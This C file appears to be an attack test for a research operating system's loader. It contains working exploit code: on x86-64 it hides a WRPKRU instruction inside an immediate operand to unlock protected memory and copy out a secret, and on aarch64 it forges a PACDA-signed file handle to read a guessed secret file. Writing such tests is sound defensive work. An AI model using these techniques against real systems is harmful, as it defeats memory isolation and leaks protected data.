/* Brings the instruction that the service of tier 1 rests on: the loader must refuse it where there is a service
   (direct, rustos). x86-64: WRPKRU, hidden in an immediate, opens the service's memory; aarch64: PACDA signs a
   guessed handle of a file that the honest part keeps open. */
#include "attack.h"
#include "handle.h"

#ifdef __aarch64__
enum { FIRST_OBJECT = 2, FIRST_EPOCH = 1 };

WAY static void attack(int64_t other)
{
    uint64_t rights = ROS_RIGHT_READ | ROS_RIGHT_MAP | ROS_RIGHT_STAT | ROS_RIGHT_GRANT | ROS_RIGHT_REVOKE;
    uint64_t index = handle_index((gate_handle)other) - 1;
    uint64_t pointer = ROS_DIRECT_HANDLE_BASE | index << ROS_DIRECT_HANDLE_ENTRY_SHIFT;
    uint64_t modifier = rights | (uint64_t)FIRST_OBJECT << ROS_DIRECT_HANDLE_MODIFIER_OBJECT |
                        (uint64_t)FIRST_EPOCH << ROS_DIRECT_HANDLE_MODIFIER_EPOCH;
    __asm__ volatile("pacda %0, %1" : "+r"(pointer) : "r"(modifier));
    read_secret("handle that the program signed",
                (int64_t)(pointer << ROS_DIRECT_HANDLE_ROTATION | pointer >> (64 - ROS_DIRECT_HANDLE_ROTATION)));
}
#else
WAY static void attack(int64_t other)
{
    (void)other;
    __asm__ volatile("jmp 2f\n"
                     "1: movl $0xc3ef010f, %%ebx\n" /* holds WRPKRU and RET */
                     "2: leaq 1b+1(%%rip), %%rbx\n"
                     "call *%%rbx"
                     :
                     : "a"(0), "c"(0), "d"(0)
                     : "rbx", "memory");
    const volatile char *mirror = (const volatile char *)ROS_DIRECT_MIRROR;
    for (int i = 0; i < SECRET_BYTES; i++)
        loot[i] = mirror[i];
    obtained_secret(loot);
}
#endif

int ros_main(int argc, char **argv)
{
    start(argc, argv, 4);
    ros_read(ros_open(SECRET, ROS_READ_ONLY, 0), loot, 1, 0);
    attack(ros_open(PUBLIC, ROS_READ_ONLY, 0));
    return 0;
}
